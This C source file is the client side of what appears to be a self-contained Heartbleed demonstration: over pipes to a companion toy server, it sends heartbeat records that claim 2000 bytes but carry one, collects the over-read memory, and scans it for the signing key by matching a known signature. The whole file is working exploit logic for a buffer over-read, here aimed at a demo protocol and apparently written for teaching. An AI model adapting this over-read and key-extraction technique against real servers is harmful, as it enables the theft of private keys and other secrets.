/* hb_client: the Heartbleed attacker (hb_proto.h). Talks to hb_server over its standard input and output
 * (pipes set up by hb_demo): asks for one honest signature of a known message, sends heartbeats that
 * carry 1 byte but claim HB_CLAIM, and tries every 32-byte window of what comes back as the key,
 * keeping the one that reproduces the server's signature. Reports on fd 3, one line each:
 *   sig HEX32            the signature the server gave (hb_demo checks it: honest signing works)
 *   leaked N             bytes received beyond what was sent
 *   key HEX64 | key none the key found, if any */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <kernelist.h>
#include "hb_proto.h"

#define HB_CLAIM 2000
#define HEARTBEATS 3

static const uint8_t message[] = "attack at dawn";

static int read_full(int fd, void *buf, unsigned n)
{
    for (unsigned done = 0; done < n;) {
        int r = sys_read(fd, (char *)buf + done, n - done);
        if (r <= 0)
            return -1;
        done += (unsigned)r;
    }
    return 0;
}

/* Sends a record and reads the reply's payload into buf (at most size bytes): its length or -1. */
static int exchange(char type, const void *payload, unsigned len, uint8_t *buf, unsigned size)
{
    uint8_t h[3] = { (uint8_t)type, (uint8_t)len, (uint8_t)(len >> 8) };
    if (sys_write(1, h, 3) != 3 || (len && sys_write(1, payload, len) != (int)len))
        return -1;
    if (read_full(0, h, 3) < 0)
        return -1;
    unsigned n = h[1] | (unsigned)h[2] << 8;
    if (n > size || read_full(0, buf, n) < 0)
        return -1;
    return (int)n;
}

static void hex(int fd, const char *label, const uint8_t *b, unsigned n)
{
    dprintf(fd, "%s ", label);
    for (unsigned i = 0; i < n; i++)
        dprintf(fd, "%02x", b[i]);
    dprintf(fd, "\n");
}

int main(void)
{
    static uint8_t leak[HEARTBEATS * HB_CLAIM], reply[HB_CLAIM + 2];
    uint8_t sig[HB_SIG_LEN];
    if (exchange('S', message, sizeof message - 1, reply, sizeof reply) != HB_SIG_LEN) {
        dprintf(2, "hb_client: no signature from the server\n");
        return 1;
    }
    memcpy(sig, reply, HB_SIG_LEN);
    hex(3, "sig", sig, HB_SIG_LEN);
    unsigned leaked = 0;
    for (int i = 0; i < HEARTBEATS; i++) {
        uint8_t hb[3] = { (uint8_t)HB_CLAIM, (uint8_t)(HB_CLAIM >> 8), (uint8_t)('a' + i) };
        int n = exchange('H', hb, sizeof hb, reply, sizeof reply);
        if (n != HB_CLAIM + 2) {
            dprintf(2, "hb_client: heartbeat %d: reply of %d bytes\n", i, n);
            break;
        }
        memcpy(leak + leaked, reply + 3, HB_CLAIM - 1); /* past the one byte we sent */
        leaked += HB_CLAIM - 1;
    }
    dprintf(3, "leaked %u\n", leaked);
    uint8_t try_sig[HB_SIG_LEN];
    for (unsigned off = 0; off + HB_KEY_LEN <= leaked; off++) {
        hb_sign(leak + off, message, sizeof message - 1, try_sig);
        if (memcmp(try_sig, sig, HB_SIG_LEN) == 0) {
            hex(3, "key", leak + off, HB_KEY_LEN);
            dprintf(2, "hb_client: the key was at offset %u of the heartbeat replies\n", off);
            sys_write(1, "Q\0\0", 3);
            return 0;
        }
    }
    dprintf(3, "key none\n");
    sys_write(1, "Q\0\0", 3);
    return 0;
}
